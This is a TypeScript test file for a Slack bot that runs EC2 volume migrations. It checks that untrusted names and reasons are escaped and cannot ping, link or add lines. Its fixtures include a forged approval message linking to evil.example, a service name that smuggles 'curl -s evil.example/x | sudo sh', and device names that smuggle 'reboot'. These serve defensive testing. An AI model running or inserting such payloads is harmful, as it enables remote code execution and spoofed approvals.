// A sentence as Slack shows it: ours is markup, theirs is text, whatever stands in it.
import { describe, expect, test } from 'vitest'
import { fold } from '../../src/core/journal/fold.ts'
import type { EntryBody } from '../../src/core/model/entries.ts'
import type { Migration } from '../../src/core/model/migration.ts'
import {
  bold,
  channelMention,
  code,
  groupMention,
  inLines,
  link,
  mention,
  moment,
  plain,
  shellWord,
  theirs,
} from '../../src/core/model/text.ts'
import { draft } from '../../src/core/planning/draft.ts'
import { serviceEffects } from '../../src/core/steps/hosts.ts'
import { parseCommand } from '../../src/slack/command.ts'
import { answer, bare, textMessage } from '../../src/slack/messages/blocks.ts'
import { mrkdwn, mrkdwnParts } from '../../src/slack/messages/text.ts'
import { threadMessages } from '../../src/slack/messages/thread.ts'
import { readReason } from '../../src/slack/modals.ts'
import { entries, move, plan, planned, service } from '../support/plans.ts'

const EVIL =
  '<!channel> <https://evil.example/approve|Approve goLive>\n*Approved by <@U0BOSS> at 2026-03-03 05:10:12 UTC.*'
const TAMED =
  '&lt;!channel&gt; &lt;https://evil.example/approve|Approve goLive&gt; \u2217Approved by &lt;@U0BOSS&gt; at 2026-03-03 05:10:12 UTC.\u2217'

describe('markup', () => {
  test.each([
    ['ours', bold(`Ask ${mention('U0A')}`), '*Ask <@U0A>*'],
    ['channels and groups', `${channelMention('C0A')} ${groupMention('S0A')}`, '<#C0A> <!subteam^S0A>'],
    ['code', `Type ${code('/migrate defer <service>')}.`, 'Type `/migrate defer &lt;service&gt;`.'],
    ['theirs', EVIL, TAMED],
    ['theirs within ours', bold(EVIL), `*${TAMED}*`],
    ['what would end code', code('a`b'), '`a\u02CBb`'],
    ['an id that is none', mention('U0A>|<!channel'), '@U0A&gt;|&lt;!channel'],
    ['struck and slanted', '~a~ _b_ c_d', '\u223Ca\u223C \u02CDb\u02CD c_d'],
    ['a quotation', inLines(['> a > b', '>c']), '\u203A a &gt; b\n\u203Ac'],
    ['an emoji', ':white_check_mark: arn:aws:kms:x 05:10:12', '\uA789white_check_mark: arn:aws:kms:x 05:10:12'],
    ['lines of ours', inLines(['a\nb', 'c']), 'a b\nc'],
    ['a mark that wraps nothing', '\uE000abc\uE004', 'abc'],
    [
      'a time',
      `At ${moment(Date.UTC(2026, 2, 3, 5, 10, 12))}.`,
      'At <!date^1772514612^{time}, {date_short_pretty}|2026-03-03 05:10 UTC>.',
    ],
    [
      'a link',
      link('https://x.slack.com/archives/C0A/p1?thread_ts=1&cid=C0A', 'Status of a|b>'),
      '<https://x.slack.com/archives/C0A/p1?thread_ts=1&amp;cid=C0A|Status of a|b&gt;>',
    ],
    ['a link to what is no address', link('https://x|<!channel', 'here'), 'here'],
    ['a link that is none', '\uE008javascript:1 here\uE005', 'javascript:1 here'],
    ['a time that is none', '\uE007soon\uE005 \uE0071', 'soon 1'],
  ])('%s', (_, sentence, then) => {
    expect(mrkdwn(sentence, 3_000)).toBe(then)
  })

  test('cut, it is still whole markup, escapes and mentions included', () => {
    const sentence = bold(`${'&'.repeat(50)} ${mention('U0A')} ${'x'.repeat(300)}`)
    for (let max = 20; max < 400; max++) {
      const text = mrkdwn(sentence, max)
      expect(text.length).toBeLessThanOrEqual(max)
      expect(text).toMatch(/^(\*(&amp;)* ?(<@U0A>)? ?x*\*)?…?$/)
    }
  })

  test('in parts, nothing of it is left out', () => {
    const words = Array.from({ length: 500 }, (_, index) => `name-${index}`)
    const parts = mrkdwnParts(`${bold('All:')} ${words.join(', ')}`, 300)
    expect(parts.every((part) => part.length <= 300)).toBe(true)
    expect(parts.join('')).toBe(`*All:* ${words.join(', ')}`)
  })

  test('without markup, for labels', () => {
    expect(plain(`${bold('Ask')} ${mention('U0A')}: ${code('a')} <b>\n\u001b[1m`, 75)).toBe('Ask @U0A: `a` <b> [1m')
    expect(plain('x'.repeat(80), 75)).toHaveLength(75)
    expect(plain(link('https://x.test/p1', 'here'))).toBe('here (https://x.test/p1)')
    expect(plain(`at ${moment(Date.UTC(2026, 2, 3, 5, 10, 12))}`)).toBe('at 2026-03-03 05:10 UTC')
  })
})

test('an answer that is too long leaves out whole lines, and counts them', () => {
  const text = answer(inLines(Array.from({ length: 3_000 }, (_, index) => `line ${index} ${'x'.repeat(30)}`)))
  expect(text.length).toBeLessThan(40_000)
  expect(text).toMatch(/\nand \d+ more lines$/)
})

test('the bare sentence says that there was more', () => {
  const { text, blocks } = bare(textMessage(EVIL), 'invalid_blocks')
  expect(text).toBe(`${TAMED}\nSlack takes no more of this message (invalid_blocks); zonehop's log says why.`)
  expect(blocks).toEqual([])
})

const NAMED = plan([move({ id: 'vol-1', name: EVIL }, 'logs')])

function textsOf(drawn = NAMED, ...said: readonly EntryBody[]): string[] {
  const all = entries(planned('mig-1', { plan: drawn, by: 'U0ASKER' }), ...said)
  return threadMessages(fold(all) as Migration, all, []).flatMap(({ message: { text, blocks } }) => [
    text,
    ...blocks.flatMap((block) => (block.type === 'section' ? (block.text?.text ?? '') : [])),
  ])
}

const FREEZING: EntryBody = { kind: 'freezing', freeze: 'f', services: ['logs'] }
const SNAPSHOT: EntryBody = {
  kind: 'intended',
  effects: [
    {
      subject: { of: 'move', move: 'vol-1' },
      step: 'snapshot',
      generation: 1,
      direction: 'forward',
      ...{ volumeId: 'vol-1', tags: {} },
    },
  ],
}

test.each<[string, readonly EntryBody[]]>([
  ['the reason of a deferral', [{ kind: 'deferred', service: 'logs', by: 'U0A', reason: EVIL }]],
  ['the reason of an abort', [{ kind: 'began' }, { kind: 'aborting', by: 'U0A', reason: EVIL }]],
  [
    'an error of EC2, and the name of its volume',
    [
      FREEZING,
      SNAPSHOT,
      { kind: 'failed', effect: 'vol-1.snapshot.1', issued: null, code: 'No', problem: EVIL, remedy: 'look' },
    ],
  ],
  ['the name of a volume that is gone', [{ kind: 'began' }, { kind: 'gone', volumes: ['vol-1'] }]],
  ['a rival', [{ kind: 'halted', why: EVIL }]],
  [
    'what stays',
    [
      {
        kind: 'asked',
        gate: 'start',
        basis: 'b',
        evidence: ['1 volume.', `${EVIL} (vol-2, 5 GiB): ${EVIL}.`],
        again: null,
      },
    ],
  ],
])('%s mentions nobody, links nothing and makes no line', (_, said) => {
  const texts = textsOf(NAMED, ...said)
  expect(texts.join(' ')).toContain('&lt;!channel&gt;')
  for (const text of texts) {
    expect(text.replaceAll(/<@U0(A|ASKER)>/g, '')).not.toContain('<')
    expect(text).not.toMatch(/^\*?Approved by/m)
    expect(text).not.toContain('*Approved')
  }
})

test('what a person types is one line by the time it is kept', () => {
  expect(readReason({ reason: { reason: { value: 'a\nb\u202Ec' } } })).toBe('a b c')
  expect(parseCommand('defer logs because a\nb \u200Bc')).toMatchObject({ reason: 'a b c' })
  expect(parseCommand('abort because a &lt; b &amp; c')).toMatchObject({ reason: 'a < b & c' })
  expect(parseCommand(`abort because ${'x'.repeat(999)}`)).toMatchObject({ reason: theirs('x'.repeat(999), 300) })
})

const SERVICE = 'logs`; curl -s evil.example/x | sudo sh; `'

describe('commands for hands', () => {
  const SHOWN = 'vol-1 (`lsblk -o NAME,SERIAL,MOUNTPOINT` shows it as vol1, or on a Xen instance as /dev/xvdf)'
  const handsOf = (name: string, device = '/dev/sdf'): string => {
    const drawn = plan([move({ id: 'vol-1', device }, name)], { services: [service(name)] })
    const before = entries(planned('mig-1', { plan: drawn }), { kind: 'freezing', freeze: 'f', services: [name] })
    const m = fold(before) as Migration
    const effects = serviceEffects(m, service(name), 'freeze')
    const texts = textsOf(drawn, { kind: 'freezing', freeze: 'f', services: [name] }, { kind: 'intended', effects })
    return texts.findLast((text) => text.includes(' on i-source:') || text.includes('\non i-source:')) ?? ''
  }

  test('a name that is no command stands before them', () => {
    expect(handsOf('logs')).toContain(`logs: on i-source: stop logs, then sync and unmount ${SHOWN}`)
  })

  test('a name that could be one does not: the volume is named', () => {
    const text = handsOf(SERVICE)
    const [title, line] = text.split('\n')
    expect(line).toBe(`on i-source: stop the service of vol-1, then sync and unmount ${SHOWN}`)
    expect(title).not.toContain('`')
  })

  test('a device that a shell would take for more is not named', () => {
    for (const device of ['/dev/sdf; reboot', '/dev/sd`reboot`', '/dev/xvdf$(reboot)']) {
      expect(handsOf('logs', device)).not.toContain('reboot')
    }
    expect(shellWord('/dev/sd`reboot`')).toBeNull()
  })
})

test('what EC2 and zonehop.yaml call things is a plan that holds no line of theirs', () => {
  const request = { sourceZone: 'us-east-1a', targetZone: 'us-east-1c', choices: [], found: [] }
  const zones = ['us-east-1a', 'us-east-1c'].map((name) => ({ name, id: `id-${name}` }))
  const because = { because: 'a test' }
  const survey = {
    ...{ offeredTypes: because, instanceTypes: because, storage: because },
    ...{ dryRuns: because, pendingSnapshots: because, modifying: because },
  }
  const seen = {
    ...{
      id: 'vol-1',
      zone: 'us-east-1a',
      state: 'available',
      sizeGib: 1,
      type: 'gp3',
      iops: null,
      throughputMibps: null,
    },
    ...{ encrypted: false, kmsKeyId: null, snapshotId: null, createdAtMs: 0, managedBy: null, attachments: [] },
    tags: { Name: EVIL },
  }
  const rules = {
    services: {},
    replicas: {},
    stays: {},
    successors: {},
    retentionDays: 1,
    budgetMinutes: null,
    approvals: 1 as const,
    askHours: 4,
  }
  const drawn = draft({ ...request, rules, inventory: { zones, instances: [], volumes: [seen], survey } })
  expect('plan' in drawn && drawn.plan.uncovered[0]?.name).toBe(EVIL.replace('\n', ' '))
})
